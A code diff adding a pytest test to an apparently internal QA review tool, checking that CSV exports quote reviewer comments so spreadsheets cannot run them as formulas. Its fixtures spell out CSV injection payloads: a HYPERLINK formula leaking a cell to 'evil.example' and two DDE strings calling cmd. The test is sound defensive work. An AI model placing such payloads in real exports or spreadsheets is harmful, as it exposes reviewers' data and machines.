@@ -297,3 +297,22 @@ def test_a_plain_transcript_goes_through_the_same_summary_and_judges():
     card = {a["item"]: a for a in prefill_view(view)}
     assert card["improper_promise"]["prefill"] == "fail" and card["empathy_apology"]["prefill"] == "pass"
     assert card["closing"]["prefill"] == "fail"
+
+
+def test_export_csv_cells_cannot_run_as_formulas(populated, tmp_path):
+    """A reviewer's comment that a spreadsheet would run is quoted in the CSV; the Parquet keeps it."""
+    import csv
+
+    sample = draw_sample(populated, SamplingPlan(n=3, seed=2))
+    store_sample(populated, sample, {})
+    every = {i["id"]: "pass" for i in scorecard_items()}
+    comments = {"qa.lee": '=HYPERLINK("http://evil.example/?leak="&A2,"details")', "qa.kim": "-2+3 cmd|' /C calc'!A0",
+                "qa.max": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    for reviewer, comment in comments.items():
+        record_review(populated, sample.sample_id, sample.calls[0].call_id, reviewer, every, comment)
+    csv_path, parquet_path = export_sample(populated, sample.sample_id, tmp_path / "out")
+    with open(csv_path, newline="", encoding="utf-8") as fh:
+        rows = {r["reviewer"]: r for r in csv.DictReader(fh) if r["reviewer"]}
+    assert {r: rows[r]["review_comment"] for r in comments} == {r: "'" + c for r, c in comments.items()}
+    raw = pd.read_parquet(parquet_path).set_index("reviewer")
+    assert raw.loc["qa.lee", "review_comment"] == comments["qa.lee"]
